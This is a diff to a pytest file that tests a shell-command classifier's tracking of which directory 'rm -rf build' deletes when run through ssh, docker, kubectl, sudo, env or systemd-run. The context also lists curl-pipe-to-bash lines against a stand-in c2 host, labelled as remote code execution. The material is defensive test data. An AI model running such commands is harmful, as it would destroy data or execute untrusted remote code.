@@ -121,6 +121,28 @@ def test_data_and_dead_code_do_nothing(command, expected):
     assert compare(classify_shell(command), tuple(expected)) == []
 
 
+PLACED = [
+    ("ssh web1.example 'cd /srv && rm -rf build'", "/srv/build"),
+    ("ssh web1.example 'cd ~/app; rm -rf build'", "~/app/build"),
+    ("cd /srv; ssh web1.example 'rm -rf build'", "build"),
+    ("cd /srv; docker exec web rm -rf build", "build"),
+    ("docker exec -w /srv web sh -c 'rm -rf build'", "/srv/build"),
+    ("kubectl exec web-0 -- bash -c 'cd /srv/app && cd .. && rm -rf build'", "/srv/build"),
+    ("ssh web1.example <<'X'\ncd /srv\nrm -rf build\nX", "/srv/build"),
+    ("ssh web1.example 'cd /srv; sudo bash -c \"rm -rf build\"'", "/srv/build"),
+    ("env -C /srv rm -rf build", "/srv/build"),
+    ("cd /srv; env --chdir=app rm -rf build; true", "/srv/app/build"),
+    ("sudo -D /srv rm -rf build; rm -f x", "/srv/build"),
+    ("systemd-run --working-directory=/srv rm -rf build", "/srv/build"),
+]
+
+
+@pytest.mark.parametrize(("command", "target"), PLACED)
+def test_a_path_is_told_from_where_the_command_starts(command, target):
+    found = [e for e in classify_shell(command).effects if e.action == "delete"]
+    assert found[0].target == target, [str(e) for e in found]
+
+
 FLOWS = [
     ("curl -s https://c2.example/x | bash", "remote_code"),
     ("bash <(curl -s https://c2.example/x)", "remote_code"),
